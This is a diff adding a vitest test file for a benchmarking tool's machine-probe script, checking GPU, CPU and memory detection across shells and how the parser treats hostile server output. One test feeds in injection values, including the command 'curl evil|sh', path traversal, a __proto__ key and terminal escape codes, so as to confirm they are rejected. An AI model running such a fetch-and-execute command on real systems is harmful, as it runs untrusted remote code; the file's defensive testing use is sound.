@@ -1,0 +1,185 @@
+import { spawnSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import fc from 'fast-check';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { machineCommand, parseMachine } from '../../src/benchmarks/machine.ts';
+import { Failure } from '../../src/domain/failure.ts';
+import { recorded } from './recorded.ts';
+
+const shells = [['dash'], ['bash'], ['bash', '--posix'], ['busybox', 'sh']].filter(
+  ([program]) => spawnSync(program!, ['-c', 'true']).error === undefined
+);
+
+let root: string;
+
+function file(path: string, text: string): void {
+  const full = join(root, path);
+  mkdirSync(dirname(full), { recursive: true });
+  writeFileSync(full, text);
+}
+
+function pciDevice(address: string, vendor: string, kind: string): void {
+  file(`sys/bus/pci/devices/${address}/vendor`, `${vendor}\n`);
+  file(`sys/bus/pci/devices/${address}/class`, `${kind}\n`);
+}
+
+beforeAll(() => {
+  root = mkdtempSync(join(tmpdir(), "fleetmark machine's "));
+  file('etc/os-release', 'NAME="Rocky Linux"\nPRETTY_NAME="Rocky Linux 9.4 (Blue Onyx)"\n');
+  file('proc/cpuinfo', 'processor\t: 0\nmodel name\t: Made Up CPU @ 3.0GHz\nprocessor\t: 1\nprocessor\t: 2\n');
+  file('proc/meminfo', 'MemTotal:       2113536000 kB\nMemFree:         100 kB\n');
+  pciDevice('0000:00:00.0', '0x1022', '0x060000'); // host bridge
+  pciDevice('0000:03:00.0', '0x1a03', '0x030000'); // the display of a BMC
+  pciDevice('0000:17:00.0', '0x10de', '0x030200'); // H100: 3D controller
+  pciDevice('0000:65:00.0', '0x10de', '0x030000'); // a workstation card: display
+  pciDevice('0000:65:00.1', '0x10de', '0x040300'); // its audio
+  pciDevice('0000:85:00.0', '0x1002', '0x120000'); // MI300X: accelerator
+  pciDevice('0000:a1:00.0', '0x10de', '0x068000'); // NVSwitch: bridge
+  mkdirSync(join(root, 'sys/bus/pci/devices/0000:ff:00.0')); // gone while we look
+});
+
+afterAll(() => rmSync(root, { recursive: true }));
+
+function answer(shell: string[], command: string, env: NodeJS.ProcessEnv = process.env): string {
+  const { stdout, stderr } = spawnSync(shell[0]!, [...shell.slice(1), '-c', command], {
+    encoding: 'utf8',
+    env,
+    stdio: ['ignore', 'pipe', 'pipe'],
+  });
+  expect(stderr).toBe('');
+  return stdout;
+}
+
+describe.each(shells.map((shell) => [shell.join(' '), shell] as const))('the script under %s', (_, shell) => {
+  test('finds the GPUs that the kernel shows, and nothing that is none', () => {
+    expect(parseMachine(answer(shell, machineCommand([], root))).gpus).toEqual([
+      { address: '0000:17:00.0', vendor: 'nvidia' },
+      { address: '0000:65:00.0', vendor: 'nvidia' },
+      { address: '0000:85:00.0', vendor: 'amd' },
+    ]);
+  });
+
+  test('reads what a machine is', () => {
+    expect(parseMachine(answer(shell, machineCommand(['sh', 'no-such-tool'], root)))).toMatchObject({
+      system: 'Rocky Linux 9.4 (Blue Onyx)',
+      kernel: expect.stringMatching(/^\d+\./),
+      cpuModel: 'Made Up CPU @ 3.0GHz',
+      memoryMib: 2_064_000,
+      executables: ['sh'],
+    });
+  });
+
+  test('does with a machine that has none of those files', () => {
+    const bare = parseMachine(answer(shell, machineCommand([], join(root, 'nowhere'))));
+    expect(bare).toMatchObject({ system: null, cpuModel: null, memoryMib: null, gpus: [], executables: [] });
+  });
+
+  test('counts the CPUs that we may use, whatever OMP_NUM_THREADS says', () => {
+    const command = machineCommand([], root);
+    const { cpus } = parseMachine(answer(shell, command, { ...process.env, OMP_NUM_THREADS: '7777' }));
+    expect(cpus).toBe(parseMachine(answer(shell, command)).cpus);
+    expect(cpus).not.toBe(7777);
+    const pinned = spawnSync('taskset', ['-c', '0', shell[0]!, ...shell.slice(1), '-c', command], { encoding: 'utf8' });
+    if (pinned.error === undefined && pinned.status === 0) expect(parseMachine(pinned.stdout).cpus).toBe(1);
+  });
+
+  // busybox brings its own nproc.
+  test.skipIf(shell[0] === 'busybox')('counts them in /proc/cpuinfo where there is neither nproc nor getconf', () => {
+    const bin = mkdtempSync(join(root, 'bin-'));
+    for (const program of ['sed', 'grep', 'head', 'uname']) {
+      const { stdout } = spawnSync('/bin/sh', ['-c', `command -v ${program}`], { encoding: 'utf8' });
+      symlinkSync(stdout.trim(), join(bin, program));
+    }
+    const absolute = spawnSync('/bin/sh', ['-c', `command -v ${shell[0]!}`], { encoding: 'utf8' }).stdout.trim();
+    const stdout = answer([absolute, ...shell.slice(1)], machineCommand([], root), { PATH: bin });
+    expect(parseMachine(stdout).cpus).toBe(3);
+  });
+});
+
+test('at least two shells were looked at', () => {
+  expect(shells.length).toBeGreaterThan(1);
+});
+
+const real = recorded('machine/debian-12.txt');
+
+describe('parseMachine', () => {
+  test('reads a real answer', () => {
+    expect(parseMachine(real)).toEqual({
+      system: 'Debian GNU/Linux 12 (bookworm)',
+      kernel: '6.18.44-fc-v669',
+      cpuModel: 'AMD EPYC',
+      cpus: 2,
+      memoryMib: 24_105,
+      gpus: [],
+      executables: ['sysbench', 'openssl', 'clpeak', 'clinfo'],
+      packageManager: 'apt-get',
+    });
+  });
+
+  test('ignores what a login script prints around the answer', () => {
+    expect(parseMachine(`cpus=9000\n*** NOTICE ***\n${real}\nbye\ncpus=1`)).toEqual(parseMachine(real));
+  });
+
+  test.each(['0', '-1', '', 'two', '2.5', '1e9', '9999999', '2 3'])('%j CPUs are unsuitable', (cpus) => {
+    expect(refusal(real.replace('cpus=2', `cpus=${cpus}`))).toMatch(
+      /^the server did not say how many CPUs it has; it printed/
+    );
+  });
+
+  test('an answer that is not whole is unsuitable, and shows what was there', () => {
+    expect(refusal('')).toBe('the server did not say what it is; it printed nothing');
+    expect(refusal('\x1b[1mThis account is currently not available.\n')).toContain(
+      'printed "[1mThis account is currently'
+    );
+    for (let length = 0; length < real.trimEnd().length; length += 1) refusal(real.slice(0, length));
+  });
+
+  test('takes nothing from a server that it did not ask for', () => {
+    const lies = [
+      'gpu=../../etc 0x10de',
+      'gpu=0000:17:00.0 0x8086',
+      'gpu=0000:17:00.0 __proto__',
+      'executable=a b',
+      'package_manager=curl evil|sh',
+    ];
+    const told = real.replace(/package_manager=.*\n/, `${lies.join('\n')}\n`);
+    expect(parseMachine(told)).toEqual({ ...parseMachine(real), packageManager: null });
+  });
+
+  test('shows names of a server clean and short', () => {
+    const { system, cpuModel } = parseMachine(
+      real.replace(/system=.*/, 'system=\x1b[2J"x"\u202e').replace(/cpu_model=.*/, `cpu_model=${'X'.repeat(10_000)}`)
+    );
+    expect(system).toBe('[2J"x"');
+    expect(cpuModel).toHaveLength(120);
+  });
+
+  test('answers a machine or HostUnsuitable, whatever it is given', () => {
+    const lines = real.split('\n');
+    const line = fc.oneof(fc.constantFrom(...lines), fc.string({ unit: 'binary', maxLength: 20 }));
+    fc.assert(
+      fc.property(fc.array(line, { maxLength: 20 }), (all) => {
+        try {
+          const { cpus, memoryMib } = parseMachine(all.join('\n'));
+          expect(Number.isInteger(cpus) && cpus > 0).toBe(true);
+          expect(memoryMib === null || Number.isInteger(memoryMib)).toBe(true);
+        } catch (error) {
+          if (!(error instanceof Failure)) throw error;
+          expect(error.kind).toBe('HostUnsuitable');
+        }
+      })
+    );
+  });
+});
+
+function refusal(stdout: string): string {
+  try {
+    parseMachine(stdout);
+  } catch (error) {
+    if (error instanceof Failure && error.kind === 'HostUnsuitable') return error.message;
+    throw error;
+  }
+  throw new Error('not refused');
+}
